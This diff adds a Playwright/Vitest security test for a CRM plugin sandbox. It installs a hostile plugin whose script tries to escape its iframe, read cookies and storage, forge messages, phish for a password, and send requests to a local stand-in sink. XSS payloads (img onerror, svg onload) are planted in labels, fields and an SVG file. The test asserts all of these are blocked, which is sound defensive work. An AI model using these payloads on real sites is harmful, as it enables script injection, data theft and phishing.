@@ -1,0 +1,308 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import { defineFields, definePlugin, defineScreen, field, label, may, option, patchDocument } from '@stratacrm/sdk';
+import { buildPlugin } from '@stratacrm/sdk/packing';
+import type { Frame } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { packedPlugin } from '../../core/testing/plugin-packages.ts';
+import { startStory, type Story, type StoryPage } from '../../core/testing/story.ts';
+
+const email = 'admin@example.com';
+const password = 'a-long-enough-password-11';
+
+/** Markup that would tell on itself if anything ever ran it. */
+const TRAP = `<img src=x onerror="window.__hit=1"><svg onload="window.__hit=1"></svg>`;
+const text = label('Rogue', '流氓');
+
+/** What a hostile screen tries; each line answers with why it came to nothing, or with `reached`. */
+const ATTACKS = (sink: string) => `
+let port;
+const heard = [];
+addEventListener('message', ({ data, ports }) => {
+  if (ports[0] === undefined || port !== undefined) return;
+  port = ports[0];
+  port.onmessage = ({ data }) => heard.push(JSON.parse(data));
+  port.postMessage(JSON.stringify({ tell: 'ready' }));
+  run();
+});
+const ask = (number, method, given) => port.postMessage(JSON.stringify({ ask: number, method, given }));
+const answered = async (number) => {
+  for (let tries = 0; tries < 200; tries++) {
+    const found = heard.find((each) => each.answer === number);
+    if (found) return found.error?.code ?? 'reached';
+    await new Promise((resolve) => setTimeout(resolve, 50));
+  }
+  return 'nothing';
+};
+const tries = {
+  dom: () => parent.document.title,
+  topDom: () => top.document.body.innerHTML,
+  cookies: () => document.cookie,
+  storage: () => localStorage.length,
+  database: () => new Promise((resolve, reject) => { const r = indexedDB.open('a'); r.onsuccess = resolve; r.onerror = () => reject(r.error); }),
+  eval: () => eval('1'),
+  popup: () => { const opened = window.open('${sink}/popup'); if (!opened) throw new Error('none'); },
+  top: () => { top.location.href = '${sink}/top'; },
+  fetch: () => fetch('${sink}/fetch', { mode: 'no-cors' }),
+  api: () => fetch('/api/me'),
+  socket: () => new Promise((resolve, reject) => { const s = new WebSocket('${sink.replace('http', 'ws')}'); s.onopen = resolve; s.onerror = () => reject(new Error('closed')); }),
+  events: () => new Promise((resolve, reject) => { const s = new EventSource('${sink}/events'); s.onopen = resolve; s.onerror = () => reject(new Error('closed')); }),
+  image: () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = () => reject(new Error('closed')); i.src = '${sink}/image'; }),
+  worker: () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = resolve; w.onerror = () => reject(new Error('closed')); }),
+  rtc: () => new RTCPeerConnection({ iceServers: [{ urls: '${sink.replace('http://', 'stun:')}' }] }),
+  module: () => import('${sink}/module.js'),
+};
+async function run() {
+  const found = {};
+  for (const [name, attempt] of Object.entries(tries)) {
+    try { await attempt(); found[name] = 'reached'; } catch (error) { found[name] = error.name; }
+  }
+  navigator.sendBeacon('${sink}/beacon', 'x');
+  const form = document.createElement('form');
+  form.action = '${sink}/form'; form.method = 'post'; document.body.append(form);
+  try { form.submit(); } catch {}
+  for (const [rel, as] of [['prefetch'], ['preload', 'image'], ['stylesheet'], ['dns-prefetch'], ['preconnect'], ['modulepreload'], ['icon']]) {
+    const link = document.createElement('link');
+    Object.assign(link, { rel, href: '${sink}/' + rel }); if (as) link.as = as;
+    document.head.append(link);
+  }
+  const inner = document.createElement('iframe');
+  inner.srcdoc = '<img src="${sink}/srcdoc">'; document.body.append(inner);
+  const link = document.createElement('a');
+  link.href = '${sink}/link'; link.target = '_blank'; document.body.append(link); link.click();
+  document.body.insertAdjacentHTML('beforeend', '<div style="background:url(${sink}/css)"></div><img src=x onerror="document.title = \\'ran\\'">');
+  // Other windows are forged at: the Studio's, and a neighbour's with a port of one's own.
+  parent.postMessage(JSON.stringify({ tell: 'toast', given: { text: 'forged' } }), '*');
+  for (let at = 0; at < parent.length; at++) parent.frames[at].postMessage('strata-screen-port', '*', [new MessageChannel().port2]);
+  ask(1, 'records.query', { object: 'contact', query: {} });
+  ask(2, 'setting', { name: 'token' });
+  ask(3, 'call', { name: 'free_seats' });
+  ask(4, 'records.create', { object: 'account', values: { name: 'by the rogue' } });
+  ask(5, 'open', { object: 'account' });
+  ask(6, 'confirm', { title: 'Your password, please', detail: '' });
+  for (const number of [1, 2, 3, 4, 5, 6]) found['ask' + number] = await answered(number);
+  document.body.dataset.found = JSON.stringify(found);
+}
+const next = document.createElement('button');
+next.id = 'next'; next.textContent = 'next'; document.body.prepend(next);
+next.addEventListener('click', () => {
+  if (document.body.dataset.step === undefined) { document.body.dataset.step = '1'; port.postMessage('x'.repeat(300000)); }
+  else if (document.body.dataset.step === '1') { document.body.dataset.step = '2'; port.postMessage(JSON.stringify({ ask: 9, method: 'kv.set', given: {} })); }
+  else for (let at = 0; at < 400; at++) port.postMessage({ at });
+});
+`;
+
+const LEAVES = (sink: string) => `
+addEventListener('message', ({ ports: [port] }) => { port.postMessage('{"tell":"ready"}'); location.href = '${sink}/left'; });`;
+
+const rogue = definePlugin({
+  id: 'com.example.rogue',
+  prefix: 'rogue',
+  version: '1.0.0',
+  label: label(`Rogue ${TRAP}`, `流氓 ${TRAP}`),
+  description: text,
+  screens: [
+    defineScreen('rogue__attacks', { label: text, mount: 'record_panel', entry: 'a.ts' }),
+    defineScreen('rogue__leaves', { label: label('Leaves', '离开'), mount: 'record_panel', entry: 'b.ts' }),
+  ],
+  documents: defineFields('account', {
+    rogue__story: field.richText(label(`Story ${TRAP}`, `故事 ${TRAP}`)),
+    rogue__kind: field.select(text, [option('trap', label(`Kind ${TRAP}`, `类型 ${TRAP}`))]),
+    rogue__picture: field.file(text),
+  }),
+  patches: [
+    patchDocument('layout', 'account_record', {
+      sections: ['rogue__attacks', 'rogue__leaves'].map((screen) => ({
+        id: screen,
+        $add: true as const,
+        $after: null,
+        label: label(`${screen} ${TRAP}`, screen),
+        columns: 1,
+        items: screen === 'rogue__leaves' ? [] : [],
+        screen,
+      })),
+    }),
+  ],
+  capabilities: [may.records('account', ['read'], ['name'], text)],
+});
+
+let story: Story;
+let person: StoryPage;
+let headers: Record<string, string>;
+let account: string;
+let sink: Server;
+/** Whoever reached the world outside. */
+const reached: string[] = [];
+
+async function send(method: string, where: string, body?: unknown) {
+  const isFile = body instanceof Uint8Array;
+  const response = await fetch(new URL(where, story.server.url), {
+    method,
+    headers: { 'content-type': isFile ? 'application/octet-stream' : 'application/json', ...headers },
+    ...(body !== undefined && { body: isFile ? new Uint8Array(body) : JSON.stringify(body) }),
+  });
+  const answer = await response.json();
+  if (!response.ok) throw new Error(`${method} ${where}: ${JSON.stringify(answer)}`);
+  return answer;
+}
+
+async function install(packed: Buffer): Promise<void> {
+  const { digest } = (await send('POST', '/api/plugin-packages', packed)).data;
+  const plan = (await send('POST', '/api/plugins/plan', { source: { digest } })).data;
+  const grants = plan.package.capabilities.map(({ key }: { key: string }) => key);
+  await send('POST', '/api/plugins/install', { source: { digest }, grants });
+}
+
+const frameOf = async (screen: string): Promise<Frame> => {
+  const frame = await person.page.waitForSelector(`[data-screen=${screen}] iframe.ready`);
+  return (await frame.contentFrame())!;
+};
+
+beforeAll(async () => {
+  sink = createServer((request, response) => {
+    reached.push(`${request.method} ${request.url}`);
+    response.setHeader('access-control-allow-origin', '*').end('');
+  });
+  sink.on('connection', (socket) => reached.push(`connection from ${socket.remotePort}`));
+  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
+  const outside = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
+  const environment = {
+    STRATA_ADMIN_EMAIL: email,
+    STRATA_ADMIN_PASSWORD: password,
+    STRATA_RATE_LIMIT: '0',
+    STRATA_DEMO: '0',
+    STRATA_PLUGIN_DEV: '1',
+  };
+  const folder = path.join(import.meta.dirname, 'club-plugin');
+  const [club] = await Promise.all([
+    buildPlugin(folder),
+    startStory({ environment }).then((started) => (story = started)),
+  ]);
+  if (club.problems.length > 0) throw new Error(JSON.stringify(club.problems));
+  person = await story.open('/');
+  const { page } = person;
+  await page.getByRole('textbox', { name: 'E-mail' }).fill(email);
+  await page.getByLabel('Password', { exact: true }).fill(password);
+  await page.getByRole('button', { name: 'Sign in' }).click();
+  headers = { authorization: `Bearer ${(await send('POST', '/api/auth/login', { email, password })).token}` };
+  const files = club.screens.flatMap(({ name, script, styles }) => [
+    [`ui/${name}.js`, script] as const,
+    ...(styles === '' ? [] : [[`ui/${name}.css`, styles] as const]),
+  ]);
+  await install(packedPlugin(club.manifest as never, { code: club.code, files: Object.fromEntries(files) }));
+  await install(
+    packedPlugin(rogue, {
+      files: { 'ui/rogue__attacks.js': ATTACKS(outside), 'ui/rogue__leaves.js': LEAVES(outside) },
+    }),
+  );
+  const svg = Buffer.from(
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hit=1"><script>window.__hit=1</script></svg>',
+  );
+  const { data: file } = await send(
+    'POST',
+    `/api/files?name=${encodeURIComponent(`${TRAP.replaceAll('/', '')}.svg`)}`,
+    svg,
+  );
+  const values = { name: `Acme ${TRAP}`, rogue__story: `<p>${TRAP}</p>`, rogue__kind: 'trap', rogue__picture: file };
+  account = (await send('POST', '/api/records/account', values)).data.id;
+  await page.goto(new URL(`/o/account/${account}`, story.server.url).href);
+});
+
+afterAll(async () => {
+  await story?.close();
+  sink?.close();
+});
+
+test('a screen shows records, asks, changes what its plugin may, and wears the theme', async () => {
+  const { page } = person;
+  const seats = await frameOf('club__seats');
+  await seats.getByText('Acme').waitFor();
+  await expect.poll(() => seats.locator('.refused').textContent()).toMatch(/forbidden/);
+  await seats.getByRole('button', { name: '1B' }).click();
+  const dialog = page.getByRole('dialog');
+  await dialog.getByText('Club').waitFor();
+  await dialog.getByRole('button', { name: 'Take it' }).click();
+  await expect.poll(() => seats.locator('.name').textContent()).toContain(': 1B');
+  const ink = () =>
+    seats.locator('html').evaluate((root) => [root.dataset['theme'], getComputedStyle(document.body).color]);
+  const [, light] = await ink();
+  await page.emulateMedia({ colorScheme: 'dark' });
+  await expect.poll(async () => (await ink())[0]).toBe('dark');
+  expect((await ink())[1]).not.toBe(light);
+  // By the keyboard into the frame, and out of it again.
+  await seats.getByRole('button', { name: '2A' }).focus();
+  await page.keyboard.press('Tab');
+  await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME');
+});
+
+test('a hostile screen reaches nothing, learns nothing, and is refused by name', async () => {
+  const { page } = person;
+  const frame = await frameOf('rogue__attacks');
+  await frame.waitForSelector('body[data-found]', { state: 'attached', timeout: 30_000 });
+  const found = JSON.parse((await frame.locator('body').getAttribute('data-found'))!) as Record<string, string>;
+  expect(Object.entries(found).filter(([, outcome]) => outcome === 'reached')).toEqual([]);
+  expect(found).toMatchObject({
+    dom: 'SecurityError',
+    cookies: 'SecurityError',
+    storage: 'SecurityError',
+    eval: 'EvalError',
+    ask1: 'forbidden',
+    ask2: 'plugin_bad_argument',
+    ask3: 'unknown_plugin_part',
+    ask4: 'forbidden',
+    ask5: 'screen_message_refused',
+    ask6: 'screen_message_refused',
+  });
+  const screen = page.locator('[data-screen=rogue__attacks]');
+  await frame.locator('#next').click();
+  await screen.getByText('300000 characters').waitFor();
+  await frame.locator('#next').click();
+  await screen.getByText('there is no "kv.set"').waitFor();
+  // The frame goes while it is being clicked.
+  await frame
+    .locator('#next')
+    .dispatchEvent('click')
+    .catch(() => undefined);
+  await screen.getByRole('alert').getByText('was stopped').waitFor();
+  // One that goes elsewhere is taken away.
+  await page.locator('[data-screen=rogue__leaves]').getByRole('alert').getByText('it left its page').waitFor();
+  expect(reached).toEqual([]);
+  expect(page.context().pages()).toHaveLength(1);
+  expect(new URL(page.url()).pathname).toBe(`/o/account/${account}`);
+  expect(await page.getByText('forged').count()).toBe(0);
+  expect((await send('GET', '/api/records/account?count=exact')).count).toBe(1);
+});
+
+test('what it wrote into labels, names, texts and files is shown and never run', async () => {
+  const { page } = person;
+  await page.getByText('Acme <img').first().waitFor();
+  for (const where of ['/o/account?view=account_all', '/studio/plugin?id=com.example.rogue']) {
+    await page.goto(new URL(where, story.server.url).href);
+    await page.getByText('<img src=x').first().waitFor();
+    expect(await page.evaluate('window.__hit')).toBeUndefined();
+  }
+  const { data } = await send('GET', `/api/records/account/${account}?fields=rogue__picture,rogue__story`);
+  expect(JSON.stringify(data.rogue__story)).not.toMatch(/onerror|svg/);
+  const place = `/api/records/account/${account}/files/rogue__picture`;
+  const file = await fetch(new URL(place, story.server.url), { headers });
+  expect(file.headers.get('content-disposition')).toMatch(/^attachment/);
+  expect(file.headers.get('content-security-policy')).toMatch(/sandbox|default-src 'none'/);
+});
+
+test('a page of a plugin stands in the navigation, and its editor takes a value', async () => {
+  const { page } = person;
+  await page.goto(new URL('/', story.server.url).href);
+  await page.getByRole('navigation').first().getByRole('link', { name: 'Club desk' }).click();
+  const desk = await frameOf('club__desk');
+  await desk.getByRole('button', { name: 'Acme' }).click();
+  await page.waitForURL(`**/o/account/${account}`);
+  await page.locator('[data-field=club__seat] .reading').click();
+  const editor = await frameOf('club__pick');
+  const input = editor.getByRole('textbox');
+  await input.fill('seat');
+  await page.getByText('A row and a letter').waitFor();
+  await input.fill('12C');
+  await page.getByRole('heading', { level: 1 }).click();
+  await expect.poll(async () => (await send('GET', `/api/records/account/${account}`)).data.club__seat).toBe('12C');
+});
